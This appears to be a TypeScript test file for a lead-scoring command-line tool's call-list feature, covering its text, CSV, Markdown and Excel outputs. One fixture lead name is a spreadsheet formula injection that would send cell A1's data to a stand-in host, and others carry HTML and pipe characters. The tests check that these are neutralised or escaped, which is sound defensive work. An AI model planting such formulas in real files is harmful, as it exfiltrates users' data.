import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { beforeEach, describe, expect, it } from 'vitest';
import { EXIT } from '../../src/cli/command';
import { parseCsv } from '../../src/cli/csv';
import { writeModelSheet } from '../../src/cli/modelSource';
import { PRIORITY_MODEL } from '../engine/builders';
import { snapshotToCells, SNAPSHOT_SHEET } from '../../src/engine';
import { runCli } from './runCli';

let dir: string;
let model: string;

/** PRIORITY_MODEL's leads (fit at most 60: grades from 45, 30, 15; engagement at most 40: levels from 30, 20, 10). */
const HEADER = ['Name', 'Company', 'Email', 'Industry', 'Employees', 'Demo', 'Webinar'];
const LEADS: (string | number)[][] = [
  ['Ada', 'Acme', 'ada@acme.com', 'Technology', 5, 'yes', 'no'], //     B1, 70
  ['Ben', 'Beta', 'ben@beta.com', 'Technology', 500, 'yes', 'yes'], // A1, 100
  ['=HYPERLINK("http://x.example/?"&A1,"Cy")', 'Core | Co', '<b>cy</b>@core.com', 'Technology', 500, 'no', 'yes'], // A3, 70
  ['Di', 'Dyn', 'di@dyn.com', 'Retail', 5, 'yes', 'yes'], //            D1, 40: grade D
  ['Ed', 'Echo', 'ed@echo.com', 'Retail', 100, 'no', 'no'], //          C4, 20: Cold
];

function csvFile(name: string, rows: readonly (readonly (string | number)[])[] = LEADS): string {
  const path = join(dir, name);
  const quote = (v: string | number) => (typeof v === 'string' && /[",]/.test(v) ? `"${v.replace(/"/g, '""')}"` : String(v));
  writeFileSync(path, [HEADER, ...rows].map((r) => r.map(quote).join(',')).join('\r\n'));
  return path;
}

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'leadscore-calllist-'));
  model = join(dir, 'model.json');
  writeFileSync(model, JSON.stringify(PRIORITY_MODEL));
});

describe('leadscore calllist', () => {
  it('prints the top leads as a plain table with the reasons under each, grade D and Cold left out', async () => {
    const { code, out, err } = await runCli('calllist', csvFile('leads.csv'), '--model', model, '--top', '10', '--as-of', '2026-11-26');
    expect(err).toBe('');
    expect(code).toBe(EXIT.ok);
    const lines = out.trimEnd().split('\n');
    expect(lines[0]).toBe('Call list: Untitled model, as of 2026-11-26');
    expect(lines[1]).toBe('All 3 leads to call, from 5 leads (1 Cold and 1 grade D leads not called).');
    expect(lines[3]).toMatch(/^# +Lead +Priority +Action +Score +Band +Name +Company +Email$/);
    // Ben (A1) first, then Ada (B1, second diagonal), then Cy (A3, third): priority before score.
    expect(lines[4]).toMatch(/^1 +2 +A1 +Call now +100 +Hot +Ben +Beta +ben@beta\.com$/);
    expect(lines[5]).toBe('   Industry is Technology (+40) · Demo is yes (+30) · Employees is 500 (+20)');
    expect(lines[6]).toMatch(/^2 +1 +B1 +Call now +70 +Hot +Ada /);
    expect(lines[8]).toMatch(/^3 +3 +A3 +Nurture: invite to a demo +70 +Hot +=HYPERLINK/);
    expect(lines).toHaveLength(10);
  });

  it('lists everyone with --all, and at most N with --top', async () => {
    const all = await runCli('calllist', csvFile('leads.csv'), '--model', model, '--all', '--json', '--as-of', '2026-11-26');
    const json = JSON.parse(all.out) as { entries: { lead: number; priority: string }[]; skipped: unknown };
    expect(json.entries.map((e) => [e.lead, e.priority])).toEqual([[2, 'A1'], [1, 'B1'], [3, 'A3'], [4, 'D1'], [5, 'C4']]);
    expect(json.skipped).toEqual({ grade: 0, band: 0 });
    const two = await runCli('calllist', csvFile('leads.csv'), '--model', model, '--top', '1', '--json', '--as-of', '2026-11-26');
    expect((JSON.parse(two.out) as { entries: unknown[] }).entries).toHaveLength(1);
  });

  it('writes CSV with formula-like text neutralised, ready to open in a spreadsheet', async () => {
    const out = join(dir, 'calls.csv');
    const { code, out: said } = await runCli('calllist', csvFile('leads.csv'), '--model', model, '-o', out, '--as-of', '2026-11-26');
    expect(code).toBe(EXIT.ok);
    expect(said).toMatch(/Wrote .*calls\.csv/);
    const table = parseCsv(readFileSync(out, 'utf8'));
    expect(table.headers).toEqual(['#', 'Lead', 'Priority', 'Action', 'Score', 'Band', 'Name', 'Company', 'Email', 'Reason 1', 'Reason 2', 'Reason 3']);
    expect(table.rows.map((r) => r[0])).toEqual(['1', '2', '3']);
    expect(table.rows[2]?.[6]).toBe(`'=HYPERLINK("http://x.example/?"&A1,"Cy")`);
    expect(table.rows[2]?.slice(9)).toEqual(['Industry is Technology (+40)', 'Employees is 500 (+20)', 'Webinar is yes (+10)']);
  });

  it('writes Markdown with every cell escaped, so a name cannot become a link or HTML', async () => {
    const out = join(dir, 'calls.md');
    expect((await runCli('calllist', csvFile('leads.csv'), '--model', model, '-o', out, '--as-of', '2026-11-26')).code).toBe(EXIT.ok);
    const md = readFileSync(out, 'utf8');
    expect(md).toContain('| \\# | Lead | Priority | Action | Score | Band | Name | Company | Email | Reason 1 | Reason 2 | Reason 3 |');
    expect(md).toContain('| ---: | ---: | --- | --- | ---: | --- | --- | --- | --- | --- | --- | --- |');
    expect(md).toContain('| 3 | 3 | A3 | Nurture: invite to a demo | 70 | Hot | =HYPERLINK\\(&quot;'.replace('&quot;', '"'));
    expect(md).toContain('Core \\| Co');
    expect(md).toContain('&lt;b&gt;cy&lt;/b&gt;@core.com');
    expect(md).not.toMatch(/<b>/);
  });

  it('writes a workbook ready to print: landscape, one page wide, the header row on every page, sheet rows to find each lead', async () => {
    // The leads in a workbook whose header row is row 3 (two empty rows above), with its own model sheet.
    const input = join(dir, 'leads.xlsx');
    const wb = new ExcelJS.Workbook();
    const leads = wb.addWorksheet('Leads');
    [HEADER, ...LEADS].forEach((r, i) => {
      leads.getRow(3 + i).values = r;
    });
    writeModelSheet(wb, PRIORITY_MODEL);
    await wb.xlsx.writeFile(input);

    const out = join(dir, 'calls.xlsx');
    const { code, err } = await runCli('calllist', input, '-o', out, '--top', '2', '--as-of', '2026-11-26');
    expect(err).toBe('');
    expect(code).toBe(EXIT.ok);
    const read = new ExcelJS.Workbook();
    await read.xlsx.readFile(out);
    const sheet = read.getWorksheet('Call list');
    expect(sheet).toBeDefined();
    expect(sheet?.pageSetup).toMatchObject({ orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '3:3' });
    expect(sheet?.pageSetup.printArea).toBe('A1:L5');
    expect(sheet?.getCell('A1').value).toBe('Call list: Untitled model, as of 2026-11-26');
    expect(sheet?.getRow(3).values).toEqual([undefined, '#', 'Row', 'Priority', 'Action', 'Score', 'Band', 'Name', 'Company', 'Email', 'Reason 1', 'Reason 2', 'Reason 3']);
    // Ben is on sheet row 5 (header on row 3), Ada on row 4.
    expect((sheet?.getRow(4).values as unknown[]).slice(1, 8)).toEqual([1, 5, 'A1', 'Call now', 100, 'Hot', 'Ben']);
    expect((sheet?.getRow(5).values as unknown[]).slice(1, 8)).toEqual([2, 4, 'B1', 'Call now', 70, 'Hot', 'Ada']);
    // The band cell carries the band's colour (Hot: #F8CBAD).
    expect(sheet?.getCell('F4').fill).toMatchObject({ fgColor: { argb: 'FFF8CBAD' } });
  });

  it('refuses what it cannot do, saying what and where', async () => {
    const leads = csvFile('leads.csv');
    expect((await runCli('calllist', leads, '--model', model, '--top', 'ten')).err).toMatch(/--top must be a whole number of leads, 1 or more, not 'ten'/);
    expect((await runCli('calllist', leads, '--model', model, '--top', '0')).code).toBe(EXIT.usage);
    expect((await runCli('calllist', leads, '--model', model, '-o', join(dir, 'calls.pdf'))).err).toMatch(/\.xlsx, \.csv or \.md, not '\.pdf'/);
    const noModel = await runCli('calllist', leads);
    expect(noModel.code).toBe(EXIT.usage);
    expect(noModel.err).toMatch(/no model; give it with --model/);
    const existing = join(dir, 'calls.csv');
    writeFileSync(existing, 'keep me');
    const refused = await runCli('calllist', leads, '--model', model, '-o', existing);
    expect(refused.code).toBe(EXIT.output);
    expect(readFileSync(existing, 'utf8')).toBe('keep me');
    expect((await runCli('calllist', leads, '--model', model, '-o', existing, '--force')).code).toBe(EXIT.ok);
    expect((await runCli('calllist', leads, '--model', model, '-o', leads, '--force')).code).toBe(EXIT.output);
    expect((await runCli('calllist', join(dir, 'missing.csv'), '--model', model)).err).toMatch(/missing\.csv: no such file/);
    expect(existsSync(join(dir, 'calls.pdf'))).toBe(false);
  });
  it('shows the change since the last scoring kept in the workbook, lead by ID', async () => {
    const input = join(dir, 'leads.xlsx');
    const wb = new ExcelJS.Workbook();
    const leads = wb.addWorksheet('Leads');
    [HEADER, ...LEADS].forEach((r, i) => {
      leads.getRow(1 + i).values = r;
    });
    writeModelSheet(wb, PRIORITY_MODEL);
    // The last scoring (18 Nov), keyed by Email: Ben 90, Ada 40; Cy was not there.
    const snapshot = wb.addWorksheet(SNAPSHOT_SHEET);
    snapshotToCells({
      scoredOn: '2026-11-18',
      idColumn: 'Email',
      model: 'Untitled model',
      leads: [{ id: 'ben@beta.com', score: 90, band: 'Hot', bandSince: '2026-11-01' }, { id: 'ada@acme.com', score: 40, band: 'Warm', bandSince: null }],
    }).forEach((r, i) => {
      snapshot.getRow(1 + i).values = r.map((c) => c ?? '');
    });
    await wb.xlsx.writeFile(input);
    const { code, out, err } = await runCli('calllist', input, '--json', '--as-of', '2026-11-26');
    expect(err).toBe('');
    expect(code).toBe(EXIT.ok);
    const json = JSON.parse(out) as { entries: { contact: { name: string }; change: unknown }[] };
    expect(json.entries.map((e) => [e.contact.name, e.change])).toEqual([
      ['Ben', { points: 10, text: '+10' }],
      ['Ada', { points: 30, text: '+30' }],
      [LEADS[2]?.[0], { points: null, text: 'new' }],
    ]);
    const text = await runCli('calllist', input, '--as-of', '2026-11-26');
    expect(text.out.split('\n')[3]).toMatch(/^# +Row +Priority +Action +Score +Band +Change +Name/);
    expect(text.out.split('\n')[4]).toMatch(/^1 +3 +A1 +Call now +100 +Hot +\+10 +Ben/);
  });
});
